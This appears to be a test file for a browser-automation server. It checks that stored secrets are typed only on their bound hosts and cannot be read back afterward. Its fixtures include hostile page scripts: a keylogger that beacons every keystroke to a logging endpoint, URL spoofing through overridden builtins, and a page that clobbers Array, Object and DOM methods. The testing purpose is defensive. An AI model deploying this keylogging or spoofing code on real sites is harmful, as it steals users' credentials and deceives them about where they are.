// The page boundary on the real Grid: the browser, not the page, says where a secret goes. Hostile
// pages fake their URL in every way page script can, replace the builtins the server's own scripts
// would use, and log every keystroke they receive to the fixture server; cross-origin frames go
// both ways. The server must still tell the truth, still act, and type a secret only where bound;
// after a bound write (which empties its field before it answers, spec §1.17) nothing in the page
// gives the value back, and scripts run there as anywhere.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { html, serveFixture } from "../support/fixtures.ts";
import { type McpClient, mcpClient } from "../support/mcp.ts";
import { endAll, logLines, startServer, type TestServer } from "../support/server.ts";

const W = "page-boundary";
const APP_SECRET = "app-pw-7c1e-9f42";
const EVIL_SECRET = "zq-tok-55ab-e013";

// Every key a page's listener received, by the host of the page that heard it, in the order heard
// (the beacons may arrive out of order).
const heard: Array<{ host: string; key: string; n: number }> = [];
const keysOn = (host: string) =>
  heard
    .filter((h) => h.host === host && !h.key.startsWith("value:"))
    .sort((a, b) => a.n - b.n)
    .map((h) => h.key)
    .join("");

// Every value the field of host held, in order, as its input listener reported it.
const valuesOn = (host: string) =>
  heard
    .filter((h) => h.host === host && h.key.startsWith("value:"))
    .sort((a, b) => a.n - b.n)
    .map((h) => h.key.slice(6));

// A field that reports each key it receives, the way a hostile page would exfiltrate them.
const LOGGER = `<input id="secret" aria-label="Secret" autocomplete="off">
<script>
  let n = 0;
  const beacon = (k) => fetch("/keys?n=" + n++ + "&k=" + encodeURIComponent(k), { keepalive: true });
  document.getElementById("secret").addEventListener("keydown", (e) => beacon(e.key));
  document.getElementById("secret").addEventListener("input", (e) => beacon("value:" + e.target.value));
</script>`;

// Lies about where it is through every page-script channel, then logs keystrokes.
const FAKE_URL = (claim: string) => `<title>Totally the app</title>
<h1>Sign in</h1>
${LOGGER}
<script>
  const claim = ${JSON.stringify(claim)};
  const RealString = String;
  window.String = function (v) { return v === location || v === location.href ? claim : RealString(v); };
  window.String.prototype = RealString.prototype;
  for (const p of ["URL", "documentURI", "baseURI"]) Object.defineProperty(document, p, { get: () => claim });
  Object.defineProperty(window, "origin", { get: () => new RealString(claim).replace(/\\/[^/]*$/, "") });
  const realStringify = JSON.stringify;
  JSON.stringify = function (v, ...rest) {
    const out = realStringify(v, ...rest);
    return typeof out === "string" ? out.split(location.origin).join(new URL(claim).origin) : out;
  };
  window.URL = function () { return { href: claim, origin: new RealString(claim), host: "app.example.test", hostname: "app.example.test" }; };
</script>`;

// Replaces what a page library run in the page's world would lean on.
const TAMPERED = `<title>Tampered</title>
<main>
  <h1 id="h">Real heading</h1>
  <p id="p">Real text here</p>
  <form action="/echo" method="get">
    <label for="name">Name</label><input id="name" name="name">
    <button type="submit" id="send">Send it</button>
  </form>
  <a id="link" href="/landed">Go on</a>
  <label><input type="checkbox" id="agree"> I agree</label>
</main>
<script>
  const junk = () => ["junk"];
  for (const m of ["map", "filter", "slice", "forEach", "some", "find", "includes", "indexOf", "concat", "join", "sort"])
    Array.prototype[m] = junk;
  Array.from = junk;
  Array.prototype.toJSON = () => "junk";
  Array.isArray = () => false;
  JSON.stringify = () => '"junk"';
  JSON.parse = () => "junk";
  Object.keys = () => ["junk"];
  Object.entries = () => [["junk", "junk"]];
  document.querySelector = () => null;
  document.querySelectorAll = () => [];
  Element.prototype.querySelectorAll = () => [];
  Element.prototype.getBoundingClientRect = () => ({ x: 0, y: 0, top: 0, left: 0, width: 0, height: 0, right: 0, bottom: 0 });
  Element.prototype.getClientRects = () => [];
  window.getComputedStyle = () => ({ display: "none", visibility: "hidden" });
  Object.defineProperty(Node.prototype, "textContent", { get: () => "junk" });
  Object.defineProperty(HTMLElement.prototype, "innerText", { get: () => "junk" });
  Object.defineProperty(Document.prototype, "title", { get: () => "junk", configurable: true });
</script>`;

const site = serveFixture({
  "/keys": (req) => {
    const u = new URL(req.url);
    heard.push({ host: u.hostname, key: u.searchParams.get("k") ?? "", n: Number(u.searchParams.get("n")) });
    return new Response("ok");
  },
  "/fake": () => html(FAKE_URL(site.url("/signin", "app.example.test"))),
  "/tampered": () => html(TAMPERED),
  "/echo": (req) =>
    html(`<title>Echo</title><h1 id="got">${new URL(req.url).searchParams.get("name") ?? ""}</h1>`),
  "/landed": () => html("<title>Landed</title><h1>Landed</h1>"),
  "/login": () => html(`<title>Login</title>${LOGGER}`),
  // A page of one host holding a frame of the other.
  "/framed": (req) => {
    const other = new URL(req.url).hostname === "app.example.test" ? "evil.example.test" : "app.example.test";
    return html(
      `<title>Framed</title><h1>Outer</h1>${LOGGER}<iframe id="f" src="${site.url("/login", other)}"></iframe>`,
    );
  },
  // Its title becomes whatever is typed into it, and keeps it once the field is emptied.
  "/echo-title": () =>
    html(
      `<title>Echo title</title><input id="t" aria-label="T" oninput="if (this.value) document.title = this.value">`,
    ),
});

let server: TestServer;
let mcp: McpClient;
const bodies: string[] = [];

async function call(path: string, body?: unknown, method = "POST") {
  const res = await server.call(method as "POST", path, method === "GET" ? undefined : (body ?? {}), W);
  bodies.push(JSON.stringify(res.body));
  return res;
}

const secrets = () => ({
  app: {
    description: "bound to the app",
    // With a scheme, an item names its port too: the fixture's.
    allowed_urls: [`http://app.example.test:${site.port}/`],
    keys: { password: { value: APP_SECRET } },
  },
  evil: {
    description: "bound to the other host",
    allowed_urls: [`http://evil.example.test:${site.port}/`],
    keys: { token: { value: EVIL_SECRET } },
  },
});

beforeAll(async () => {
  server = await startServer({
    dataDir: false,
    configure: (c) => {
      c.secrets.hold_ms = 300;
      c.secrets.entries = secrets();
    },
  });
  mcp = await mcpClient(server, W);
});

afterAll(async () => {
  await endAll(server, [W]);
  await server.close();
  site.stop();
  const everything = [...bodies, ...mcp.texts, ...logLines].join("\n");
  expect(everything).not.toContain(APP_SECRET);
  expect(everything).not.toContain(EVIL_SECRET);
});

describe("a page that fakes where it is", () => {
  test("navigate, the history and the host check take the browser's word; nothing is typed", async () => {
    const evil = site.url("/fake", "evil.example.test");
    const went = await call("/browser/navigate", { url: evil });
    expect(went.status).toBe(200);
    expect(went.body).toEqual({ url: evil, title: "Totally the app", status: 200 });
    // The page's own world does believe the lie: that is what the server no longer asks.
    const lie = await call("/browser/script", {
      script: "[String(location.href), document.URL, window.origin]",
    });
    expect(lie.body.result).toEqual([
      site.url("/signin"),
      site.url("/signin"),
      `http://app.example.test:${site.port}`,
    ]);
    const record = await server.app.services.store.get(W);
    expect(record!.history[0]!.url).toBe(evil);
    expect((await call("/browser", undefined, "GET")).body.url).toBe(evil);

    const write = await call("/browser/write", {
      selector: { label: "Secret" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(write.status).toBe(400);
    expect(write.body.error).toContain("secret app may not be typed on evil.example.test");
    expect(write.body.error).toContain(`it is allowed only on http://app.example.test:${site.port}/`);
    await Bun.sleep(200);
    expect(keysOn("evil.example.test")).toBe("");
  }, 120_000);
});

describe("a page that replaced the builtins", () => {
  test("read_page, extract, selectors, interact and write still see the truth and act", async () => {
    const at = site.url("/tampered");
    await call("/browser/navigate", { url: at });
    const read = await call("/browser/read");
    expect(read.status).toBe(200);
    expect(read.body.url).toBe(at);
    expect(read.body.headings).toEqual([{ level: 1, text: "Real heading" }]);
    expect(read.body.text).toContain("Real text here");
    const names = read.body.elements.map((e: { name?: string }) => e.name);
    expect(names).toEqual(expect.arrayContaining(["Name", "Send it", "Go on", "I agree"]));

    const text = await call("/browser/extract", { selector: { css: "#p" } });
    expect(text.body).toMatchObject({ result: "Real text here", count: 1 });
    const byRole = await call("/browser/extract", {
      selector: { role: "link", name: "Go on" },
      get: "attribute",
      attribute: "href",
    });
    expect(byRole.body.result).toBe("/landed");

    const checked = await call("/browser/interact/check", { selector: { label: "I agree" } });
    expect(checked.body.checked).toBe(true);
    const typed = await call("/browser/write", { selector: { label: "Name" }, text: "Ada", submit: true });
    expect(typed.status).toBe(200);
    expect(typed.body).toMatchObject({ url: `${site.url("/echo")}?name=Ada`, title: "Echo" });

    await call("/browser/navigate", { url: at });
    const clicked = await call("/browser/interact/click", { selector: { text: "Go on" } });
    expect(clicked.body).toEqual({ url: site.url("/landed"), title: "Landed" });
  }, 120_000);
});

describe("cross-origin frames", () => {
  test("a secret of the top page's host is refused in another host's frame; the frame's own is typed there", async () => {
    heard.length = 0;
    await call("/browser/navigate", { url: site.url("/framed", "app.example.test") });
    const into = await call("/browser/switch", { frame: { css: "#f" } });
    expect(into.body).toMatchObject({ url: site.url("/login", "evil.example.test"), in_frame: true });
    const refused = await call("/browser/write", {
      selector: { label: "Secret" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error).toContain("secret app may not be typed on evil.example.test");
    await Bun.sleep(200);
    expect(heard).toEqual([]);

    const own = await call("/browser/write", {
      selector: { label: "Secret" },
      secret: { name: "evil", key: "token" },
      submit: "auto",
    });
    expect(own.status).toBe(200);
    await Bun.sleep(300);
    // The frame's field took its own host's secret, put in whole (no key was sent anywhere), and was
    // emptied before the write answered; the top page heard nothing.
    expect(valuesOn("evil.example.test")).toEqual([EVIL_SECRET, ""]);
    expect(keysOn("evil.example.test")).toBe("");
    expect(heard.filter((h) => h.host === "app.example.test")).toEqual([]);
    await call("/browser/switch", { frame: null });
  }, 120_000);

  test("the other way round: the app's frame inside another host's page takes the app's secret", async () => {
    heard.length = 0;
    await call("/browser/navigate", { url: site.url("/framed", "evil.example.test") });
    // The top page is not the app's: refused there.
    const top = await call("/browser/write", {
      selector: { label: "Secret" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(top.body.error).toContain("may not be typed on evil.example.test");
    await call("/browser/switch", { frame: { css: "#f" } });
    const inFrame = await call("/browser/write", {
      selector: { label: "Secret" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(inFrame.status).toBe(200);
    await Bun.sleep(300);
    expect(valuesOn("app.example.test")).toEqual([APP_SECRET, ""]);
    expect(keysOn("app.example.test")).toBe("");
    expect(heard.filter((h) => h.host === "evil.example.test")).toEqual([]);
    await call("/browser/switch", { frame: null });
  }, 120_000);
});

describe("a typed secret does not come back", () => {
  test("after the write the field is empty: scripts run on the page and find nothing of the value", async () => {
    heard.length = 0;
    await call("/browser/navigate", { url: site.url("/login") });
    const typed = await call("/browser/write", {
      selector: { label: "Secret" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(typed.status).toBe(200);
    await Bun.sleep(300);
    // The field held the whole value during the call (its page says so), and holds nothing now.
    expect(valuesOn("app.example.test")).toEqual([APP_SECRET, ""]);
    // Any encoding would do to read it back: there is nothing to read.
    const back = await call("/browser/script", { script: "btoa(document.getElementById('secret').value)" });
    expect(back.status).toBe(200);
    expect(back.body.result).toBe("");
    const viaMcp = await mcp.tool("execute_script", {
      script: "document.getElementById('secret').value.length",
    });
    expect(viaMcp.isError).toBeFalsy();
    expect(viaMcp.structuredContent.result).toBe(0);
    // A same-document change, keys, a reload: ordinary calls, none refused.
    expect((await call("/browser/interact/press", { keys: "Tab" })).status).toBe(200);
    expect((await call("/browser/script", { script: "history.pushState({}, '', '#x')" })).status).toBe(200);
    await call("/browser/navigate", { reload: true });
    expect((await call("/browser/script", { script: "1 + 1" })).body.result).toBe(2);
  }, 120_000);

  test("a title the page keeps the typed value in reads [hidden] on every read-only surface", async () => {
    await call("/browser/navigate", { url: site.url("/echo-title") });
    const typed = await call("/browser/write", {
      selector: { label: "T" },
      secret: { name: "app", key: "password" },
      submit: "auto",
    });
    expect(typed.status).toBe(200);
    expect(typed.body.title).toBe("[hidden]");
    const current = await call("/browser", undefined, "GET");
    expect(current.body.title).toBe("[hidden]");
    expect((await mcp.resource("workspace://current")).title).toBe("[hidden]");
    // The field itself was emptied.
    expect((await call("/browser/extract", { selector: { label: "T" }, get: "value" })).body.result).toBe("");
  }, 120_000);
});
